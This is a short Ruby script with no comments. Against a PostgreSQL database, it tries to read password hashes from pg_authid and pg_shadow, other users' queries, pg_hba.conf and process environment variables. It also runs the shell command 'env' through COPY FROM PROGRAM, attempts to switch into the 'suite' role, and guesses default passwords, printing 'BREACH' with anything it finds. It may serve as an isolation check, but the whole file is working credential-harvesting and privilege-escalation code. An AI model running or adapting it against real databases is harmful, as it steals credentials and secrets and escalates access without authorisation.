# frozen_string_literal: true

require 'pg'
require 'uri'

LOOKS = [
  "SELECT rolpassword FROM pg_authid WHERE rolname = 'suite'",
  "SELECT passwd FROM pg_shadow WHERE usename = 'suite'",
  "SELECT query FROM pg_stat_activity WHERE usename = 'suite' AND query NOT LIKE '<%' AND query <> ''",
  "SELECT query FROM pg_stat_statements WHERE query LIKE '%suite%'",
  "SELECT pg_read_file('pg_hba.conf')",
  'SELECT auth_method FROM pg_hba_file_rules',
  "SELECT pg_read_file('/proc/1/environ')",
  "CREATE TEMP TABLE seen (line text); COPY seen FROM PROGRAM 'env'; SELECT line FROM seen",
  "CREATE TEMP TABLE read (line text); COPY read FROM '/proc/self/environ'; SELECT line FROM read",
  'SELECT current_setting(\'hba_file\')',
  "SET ROLE suite; SELECT 'is the suite'",
  "SET SESSION AUTHORIZATION suite; SELECT 'is the suite'",
].freeze

address = URI(ENV.fetch('DATABASE_URL'))
got = LOOKS.filter_map do |look|
  database = PG.connect(address.to_s)
  rows = database.exec(look)
  "#{look}: #{rows.values.first}" unless rows.ntuples.zero?
rescue PG::Error
  nil
end
%w[suite postgres].product([nil, '', 'suite', 'postgres', address.password]).each do |user, password|
  PG.connect(host: address.host, port: address.port, dbname: 'app', user:, password:)
  got << "signed in as #{user} with #{password.inspect}"
rescue PG::Error
  nil
end
puts got.empty? ? "TRIED #{LOOKS.size} looks and ten passwords" : "BREACH #{got}"
